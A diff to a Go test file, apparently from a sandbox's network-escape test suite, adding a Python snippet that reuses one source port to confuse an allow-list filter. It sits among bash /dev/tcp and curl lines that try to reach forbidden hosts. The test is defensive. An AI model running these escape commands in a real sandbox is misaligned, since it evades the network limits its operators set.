@@ -13,13 +13,23 @@ import (
 	"github.com/creel-run/creel/audit"
 )
 
+// sameSource connects to two names from one address and port, where both ways end in
+// one listener: whose connection is it, that of the name that is allowed?
+const sameSource = `python3 -c '
+import socket
+def reach(name):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("9.9.9.9", 40001)); s.connect((name, 80)); return s
+first, second = reach("ok.test"), reach("no.test")
+second.sendall(b"GET /public/MARK HTTP/1.1\r\nHost: ok.test\r\n\r\n"); print(second.recv(99))
+'`
+
 // TestEscapeNetwork: NET, layers 3 and 4, in a world where every address is the sink's.
 func TestEscapeNetwork(t *testing.T) {
 	inWorld(t, func(t *testing.T) {
 		a, _ := newWorldArena(t)
 		a.run(t, "NET-02", attacks(scripts("bash -c 'exec 3<>/dev/tcp/no.test/443; echo MARK >&3; cat <&3'", "bash -c 'exec 3<>/dev/tcp/192.0.2.1/443; echo MARK >&3; cat <&3'",
 			"bash -c 'exec 3<>/dev/tcp/"+publicAddr+"/22; echo MARK >&3; cat <&3'", "env -i /usr/bin/bash -c 'exec 3<>/dev/tcp/no.test/22; echo MARK >&3; cat <&3'",
-			"env -i /usr/bin/bash -c 'exec 3<>/dev/tcp/2606:2800:220:1::1/25; echo MARK >&3; cat <&3'"), everyWay("curl -sS http://no.test/MARK", "curl -sS telnet://no.test:22/MARK </dev/null"))...)
+			"env -i /usr/bin/bash -c 'exec 3<>/dev/tcp/2606:2800:220:1::1/25; echo MARK >&3; cat <&3'", sameSource), everyWay("curl -sS http://no.test/MARK", "curl -sS telnet://no.test:22/MARK </dev/null"))...)
 		a.run(t, "NET-03", attack{what: "ports of a name", way: transparent, do: func(a *arena, mark string) string {
 			x := a.probe("sweep", "no.test", mark)
 			return string(x.Stdout) + string(x.Stderr)
